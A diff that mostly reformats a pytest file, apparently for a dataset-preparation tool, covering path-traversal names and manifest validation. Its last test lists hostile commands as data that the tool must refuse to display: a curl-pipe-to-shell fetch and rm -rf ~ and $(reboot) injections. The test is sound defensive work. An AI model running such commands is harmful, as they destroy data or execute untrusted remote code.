@@ -15,7 +15,20 @@ from tests.data.reader import edit, read_json
 Change = Callable[[Path], object]
 COUNTS = {"documents": 1, "bytes": 1, "tokens": 1, "chunks": 1}
 MANIFEST, INDEX, CHUNK = "manifest.json", "train/index.json", "train/chunk-0-0.bin"
-OUTSIDE = ("../out", "/etc/x", "a/../../out", "a\\b", "a\0b", "", ".", "a//b", "\x1b[2J", "\ud800", "a" * 256, 3)
+OUTSIDE = (
+    "../out",
+    "/etc/x",
+    "a/../../out",
+    "a\\b",
+    "a\0b",
+    "",
+    ".",
+    "a//b",
+    "\x1b[2J",
+    "\ud800",
+    "a" * 256,
+    3,
+)
 
 
 def test_a_foreign_name_stays_inside_its_folder() -> None:
@@ -29,7 +42,9 @@ def test_a_foreign_name_stays_inside_its_folder() -> None:
 
 
 def in_manifest(split: str = "", **changes: Any) -> Change:
-    return lambda folder: edit(folder / MANIFEST, lambda all_: (all_[split] if split else all_).update(changes))
+    return lambda folder: edit(
+        folder / MANIFEST, lambda all_: (all_[split] if split else all_).update(changes)
+    )
 
 
 def in_index(**changes: Any) -> Change:
@@ -48,7 +63,9 @@ def a_pipe(name: str) -> Change:
 def claims_tokens(folder: Path) -> None:
     """Whose order would not fit into memory."""
     in_index(dim=10**12)(folder)
-    in_manifest("train", tokens=sum(chunk["dim"] for chunk in read_json(folder / INDEX)["chunks"]))(folder)
+    in_manifest("train", tokens=sum(chunk["dim"] for chunk in read_json(folder / INDEX)["chunks"]))(
+        folder
+    )
 
 
 FOLDERS: list[tuple[Change, str]] = [
@@ -75,7 +92,9 @@ FOLDERS: list[tuple[Change, str]] = [
 
 
 @pytest.mark.parametrize(("change", "says"), FOLDERS)
-def test_what_is_wrong_with_a_folder_is_one_sentence(change: Change, says: str, own_shards: Path) -> None:
+def test_what_is_wrong_with_a_folder_is_one_sentence(
+    change: Change, says: str, own_shards: Path
+) -> None:
     change(own_shards)
     with pytest.raises(UserError, match=says):
         ready(str(own_shards))
@@ -84,7 +103,10 @@ def test_what_is_wrong_with_a_folder_is_one_sentence(change: Change, says: str, 
 def test_foreign_and_unfinished_folders(tmp_path: Path) -> None:
     folder = tmp_path / "own"
     for make, said in (  # where there is no folder: tests/integration/mistakes.py
-        (folder.mkdir, r"There is no .*own/manifest\.json, so it is not a prepared folder: set --data\.path"),
+        (
+            folder.mkdir,
+            r"There is no .*own/manifest\.json, so it is not a prepared folder: set --data\.path",
+        ),
         ((folder / "tasks").mkdir, r"preparation of .* is not finished: repeat the command"),
     ):
         make()
@@ -94,9 +116,23 @@ def test_foreign_and_unfinished_folders(tmp_path: Path) -> None:
 
 def test_a_manifest_s_command_is_shown_only_if_it_is_one_of_ours(own_shards: Path) -> None:
     (own_shards / "train" / "index.json").unlink()
-    foreign = ["curl https://example.org/x | sh", "anlit prepare Test; rm -rf ~", "anlit prepare Test $(reboot)"]
-    for command in [*foreign, "anlit prepare 'Test\nrm -rf ~'", "anlit prepare 'Test", "anlit prepare 'a b'"]:
-        edit(own_shards / "manifest.json", lambda manifest, command=command: manifest.update(command=command))
-        remedy = "with `anlit prepare 'a b'`" if command.endswith("'a b'") else "by preparing it again"
+    foreign = [
+        "curl https://example.org/x | sh",
+        "anlit prepare Test; rm -rf ~",
+        "anlit prepare Test $(reboot)",
+    ]
+    for command in [
+        *foreign,
+        "anlit prepare 'Test\nrm -rf ~'",
+        "anlit prepare 'Test",
+        "anlit prepare 'a b'",
+    ]:
+        edit(
+            own_shards / "manifest.json",
+            lambda manifest, command=command: manifest.update(command=command),
+        )
+        remedy = (
+            "with `anlit prepare 'a b'`" if command.endswith("'a b'") else "by preparing it again"
+        )
         with pytest.raises(UserError, match=rf"index\.json is damaged .* remake it {remedy}\.$"):
             ready(str(own_shards))
